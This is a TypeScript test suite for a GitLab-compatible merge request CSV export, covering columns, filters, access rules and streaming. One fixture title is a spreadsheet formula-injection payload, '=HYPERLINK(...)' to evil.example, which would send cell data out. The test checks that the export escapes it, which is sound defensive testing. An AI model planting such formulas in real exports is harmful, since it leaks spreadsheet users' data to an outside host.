import { sql } from 'kysely';
import { beforeAll, describe, expect, it } from 'vitest';
import { AccessLevel } from '../../policy/access-levels';
import { csvObjects, parseCsv } from '../../test/csv-records';
import { useRestTestApp } from '../../test/rest-test-app';

/** "Export as CSV" of the project and group merge request lists (issue 32): GitLab's columns, the list's rules. */
const t = useRestTestApp({
  prefix: 'mrcsv_',
  users: ['owner', 'dev', 'outsider'],
  groups: {
    acme: { path: 'mrcsvacme', members: { owner: AccessLevel.OWNER, dev: AccessLevel.DEVELOPER } },
    open: { path: 'mrcsvopen', visibility: 20, members: { owner: AccessLevel.OWNER } },
  },
  projects: {
    web: { path: 'web', group: 'acme' },
    api: { path: 'api', group: 'acme' },
    bulk: { path: 'bulk', group: 'acme' },
    pub: { path: 'pub', group: 'open', visibility: 20 },
  },
});
const { api, tok, uid, pid, gid } = t;

/** GitLab's `MergeRequests::ExportCsvService#header_to_value_hash`, in its order. */
const GITLAB_COLUMNS = [
  'Title',
  'Description',
  'MR IID',
  'URL',
  'State',
  'Source Branch',
  'Target Branch',
  'Source Project ID',
  'Target Project ID',
  'Author',
  'Author Username',
  'Assignees',
  'Assignee Usernames',
  'Approvers',
  'Approver Usernames',
  'Merged User',
  'Merged Username',
  'Milestone ID',
  'Created At (UTC)',
  'Updated At (UTC)',
];

const csvGet = (path: string, who?: string) =>
  t.app.inject({ method: 'GET', url: path, headers: who ? { 'private-token': tok[who] ?? '' } : {} });

async function exportRows(path: string, who?: string) {
  const res = await csvGet(path, who);
  expect(res.statusCode, res.body).toBe(200);
  return csvObjects(res.body);
}

let branch = 0;
async function newMr(projectId: number, fields: Record<string, unknown>) {
  branch++;
  const res = await api('POST', `/projects/${projectId}/merge_requests`, 'owner', {
    source_branch: `feature-${branch}`,
    target_branch: 'main',
    ...fields,
  });
  expect(res.statusCode, res.body).toBe(201);
  return res.json() as { iid: number; id: number };
}

let milestoneId = 0;
let mergedIid = 0;

beforeAll(async () => {
  const milestone = await api('POST', `/projects/${pid.web}/milestones`, 'owner', { title: 'v1' });
  expect(milestone.statusCode, milestone.body).toBe(201);
  milestoneId = milestone.json().id;
  const alpha = await newMr(pid.web, {
    title: 'Alpha, "quoted"',
    description: 'Line one\nline two',
    labels: 'feature,bug',
    assignee_ids: [uid.owner, uid.dev],
    milestone_id: milestoneId,
  });
  await t.db
    .insertInto('approvals')
    .values([
      { merge_request_id: alpha.id, user_id: uid.dev as number },
      { merge_request_id: alpha.id, user_id: uid.owner as number },
    ])
    .execute();
  await newMr(pid.web, { title: '=HYPERLINK("http://evil.example/?"&A1)', description: '@SUM(A1)', labels: 'bug' });
  const merged = await newMr(pid.web, { title: 'Merged one', labels: 'bug' });
  mergedIid = merged.iid;
  await sql`UPDATE merge_requests SET state = 'merged', merged_at = now(), merge_user_id = ${uid.dev}
    WHERE id = ${merged.id}`.execute(t.db);
  await newMr(pid.web, { title: 'Draft: not yet' });
  await newMr(pid.api, { title: 'In the other project', labels: 'bug' });
  await newMr(pid.pub, { title: 'Public change' });
});

describe('GET /<project>/-/merge_requests.csv', () => {
  it("answers GitLab's columns in GitLab's order, as a dated CSV attachment", async () => {
    const res = await csvGet('/mrcsvacme/web/-/merge_requests.csv', 'owner');
    expect(res.statusCode, res.body).toBe(200);
    expect(res.headers['content-type']).toBe('text/csv; charset=utf-8');
    const today = new Date().toISOString().slice(0, 10);
    expect(res.headers['content-disposition']).toBe(`attachment; filename="web-merge_requests-${today}.csv"`);
    expect(parseCsv(res.body)[0]).toEqual(GITLAB_COLUMNS);
  });

  it("writes each merge request's cells as GitLab does", async () => {
    const rows = await exportRows('/mrcsvacme/web/-/merge_requests.csv?state=all', 'owner');
    const alpha = rows.find((r) => r.Title === 'Alpha, "quoted"');
    expect(alpha).toMatchObject({
      Description: 'Line one\nline two',
      'MR IID': '1',
      State: 'opened',
      'Source Branch': 'feature-1',
      'Target Branch': 'main',
      'Source Project ID': String(pid.web),
      'Target Project ID': String(pid.web),
      'Author Username': 'mrcsv_owner',
      'Merged User': '',
      'Merged Username': '',
      'Milestone ID': String(milestoneId),
    });
    expect(alpha?.['Assignee Usernames']?.split(', ').sort()).toEqual(['mrcsv_dev', 'mrcsv_owner']);
    expect(alpha?.['Approver Usernames']?.split(', ').sort()).toEqual(['mrcsv_dev', 'mrcsv_owner']);
    expect(alpha?.URL).toMatch(/\/mrcsvacme\/web\/-\/merge_requests\/1$/);
    expect(alpha?.['Created At (UTC)']).toMatch(/^\d{4}-\d\d-\d\d \d\d:\d\d:\d\d UTC$/);
    const merged = rows.find((r) => r['MR IID'] === String(mergedIid));
    expect(merged).toMatchObject({
      State: 'merged',
      'Merged Username': 'mrcsv_dev',
      Approvers: '',
      'Milestone ID': '',
    });
  });

  it('prefixes cells a spreadsheet would run as formulas with a quote', async () => {
    const rows = await exportRows('/mrcsvacme/web/-/merge_requests.csv', 'owner');
    const formula = rows.find((r) => r.Title?.includes('HYPERLINK'));
    expect(formula?.Title).toBe(`'=HYPERLINK("http://evil.example/?"&A1)`);
    expect(formula?.Description).toBe("'@SUM(A1)");
  });

  it.each([
    '',
    '?state=all',
    '?state=opened&labels=bug&order_by=title&sort=asc',
    '?state=all&order_by=merged_at&sort=desc',
    '?state=all&order_by=updated_at&sort=asc&not[labels]=feature',
    '?state=all&draft=no',
    '?search=Alpha&in=title',
  ])('lists what the REST list lists, in its order: %s', async (query) => {
    const rest = await api(
      'GET',
      `/projects/${pid.web}/merge_requests${query}${query ? '&' : '?'}per_page=100`,
      'owner',
    );
    expect(rest.statusCode, rest.body).toBe(200);
    const rows = await exportRows(`/mrcsvacme/web/-/merge_requests.csv${query}`, 'owner');
    expect(rows.map((r) => Number(r['MR IID']))).toEqual((rest.json() as Array<{ iid: number }>).map((m) => m.iid));
  });

  it('is 404 for a project the caller may not see, and works anonymously on a public project', async () => {
    expect((await csvGet('/mrcsvacme/web/-/merge_requests.csv', 'outsider')).statusCode).toBe(404);
    expect((await csvGet('/mrcsvacme/web/-/merge_requests.csv')).statusCode).toBe(404);
    expect((await csvGet('/mrcsvacme/nothing/-/merge_requests.csv', 'owner')).statusCode).toBe(404);
    const rows = await exportRows('/mrcsvopen/pub/-/merge_requests.csv');
    expect(rows.map((r) => r.Title)).toEqual(['Public change']);
  });

  it('refuses a bad filter with a 400 naming it, as the list does', async () => {
    const res = await csvGet('/mrcsvacme/web/-/merge_requests.csv?order_by=bogus', 'owner');
    expect(res.statusCode).toBe(400);
    expect(res.body).toContain('order_by');
  });
});

describe('GET /groups/<group>/-/merge_requests.csv', () => {
  it("lists the group's merge requests as GET /groups/:id/merge_requests does, in its order", async () => {
    const query = '?labels=bug&order_by=title&sort=asc';
    const rest = await api('GET', `/groups/${gid.acme}/merge_requests${query}&per_page=100`, 'owner');
    const res = await csvGet(`/groups/mrcsvacme/-/merge_requests.csv${query}`, 'owner');
    expect(res.statusCode, res.body).toBe(200);
    expect(res.headers['content-disposition']).toMatch(
      /^attachment; filename="mrcsvacme-merge_requests-\d{4}-\d\d-\d\d\.csv"$/,
    );
    const [header, ...rows] = parseCsv(res.body);
    expect(header).toEqual(GITLAB_COLUMNS);
    const urls = rows.map((r) => r[3]);
    expect(urls).toEqual((rest.json() as Array<{ web_url: string }>).map((m) => m.web_url));
    expect(urls.some((u) => u?.includes('/mrcsvacme/api/-/merge_requests/'))).toBe(true);
  });

  it('is 404 for a group the caller may not see', async () => {
    expect((await csvGet('/groups/mrcsvacme/-/merge_requests.csv', 'outsider')).statusCode).toBe(404);
    expect((await csvGet('/groups/mrcsvacme/-/merge_requests.csv')).statusCode).toBe(404);
  });
});

describe('a long export', () => {
  const COUNT = 1_200;
  beforeAll(async () => {
    await sql`INSERT INTO merge_requests (project_id, iid, title, author_id, source_branch, target_branch)
      SELECT ${pid.bulk}::int, 100000 + g, 'Bulk change ' || g, ${uid.owner}::int, 'b' || g, 'main'
      FROM generate_series(1, ${COUNT}::int) g`.execute(t.db);
  });

  it('streams every row in keyset batches across equal sort keys, in the REST pages’ order', async () => {
    const rows = await exportRows('/mrcsvacme/bulk/-/merge_requests.csv?order_by=title&sort=asc', 'owner');
    expect(rows).toHaveLength(COUNT);
    const listed: number[] = [];
    for (let page = 1; page <= COUNT / 100; page++) {
      const res = await api(
        'GET',
        `/projects/${pid.bulk}/merge_requests?order_by=title&sort=asc&per_page=100&page=${page}`,
        'owner',
      );
      listed.push(...(res.json() as Array<{ iid: number }>).map((m) => m.iid));
    }
    expect(rows.map((r) => Number(r['MR IID']))).toEqual(listed);
    const byCreated = await exportRows('/mrcsvacme/bulk/-/merge_requests.csv', 'owner');
    expect(new Set(byCreated.map((r) => r['MR IID'])).size).toBe(COUNT);
  });
});

describe('POST /<project>/-/merge_requests/export_csv without SMTP', () => {
  it('is a 422 saying email is not configured, and queues nothing', async () => {
    const res = await t.app.inject({
      method: 'POST',
      url: '/mrcsvacme/web/-/merge_requests/export_csv',
      headers: { 'private-token': tok.owner ?? '', accept: 'application/json' },
    });
    expect(res.statusCode, res.body).toBe(422);
    expect(res.json().error).toContain('Email is not configured on this instance');
    const queued = await t.db.selectFrom('notification_emails').select('id').execute();
    expect(queued).toEqual([]);
  });
});
